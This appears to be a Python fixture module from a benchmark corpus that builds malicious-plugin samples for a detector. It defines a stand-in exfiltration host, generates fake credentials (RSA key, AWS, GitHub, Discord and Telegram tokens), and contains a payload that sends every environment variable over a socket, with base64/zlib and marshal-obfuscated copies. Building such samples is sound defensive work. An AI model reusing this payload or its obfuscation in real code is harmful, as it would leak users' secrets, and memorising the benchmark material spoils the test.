"""What the bad plugins share: a stranger's address, secrets, and code that asks somewhere.

Secrets are put together here, so that no scanner of repositories takes them for real ones.
"""

import base64
import marshal
import zlib
from hashlib import sha256
from typing import Any

from aei_marketplace.bench.corpus.making import Sample

STRANGER = "collect.stranger.example"
URL = f"https://{STRANGER}/take"


def chance(length: int, alphabet: str, seed: str) -> str:
    """Characters without a pattern, always the same ones."""
    made = ""
    while len(made) < length:
        made += "".join(
            alphabet[byte % len(alphabet)] for byte in sha256(f"{seed}{len(made)}".encode()).digest()
        )
    return made[:length]


LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_KEY_BODY = "\n".join(chance(64, LETTERS + "+/", f"line {line}") for line in range(12))
KEY = "-----BEGIN " + f"RSA PRIVATE KEY-----\n{_KEY_BODY}\n-----END RSA PRIVATE" + " KEY-----"
AWS = "AKIA" + chance(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", "aws")
GITHUB = "ghp_" + chance(36, LETTERS, "github")
DISCORD = f"https://discord.com/api/webhooks/{chance(18, '123456789', 'id')}/{chance(68, LETTERS, 'hook')}"
TELEGRAM = (
    f"https://api.telegram.org/bot{chance(9, '123456789', 'bot')}:AA{chance(33, LETTERS, 'tg')}/sendMessage"
)
_PAYLOAD = "import os, socket\nfor name, value in os.environ.items():\n    socket.create_connection(('x', 1)).send(value.encode())\n"
HIDDEN = base64.b64encode(zlib.compress(_PAYLOAD.encode())).decode()
COMPILED = base64.b64encode(marshal.dumps(compile(_PAYLOAD, "x", "exec"))).decode()
FETCH = "from aei import http\n\ndef run(task):\n    return http.fetch({'url': %s})\n"
JS_FETCH = "import { http } from 'aei';\nexport function run(task) {\n  const where = %s;\n  return http.fetch({ url: where });\n}\n"


def codes(text: str, key: int = 0) -> str:
    return ", ".join(str(ord(c) ^ key) for c in text)


def bad(check: str, rule: str, **samples: Any) -> list[Sample]:
    return [Sample(name.replace("_", " "), made, check, rule) for name, made in samples.items()]
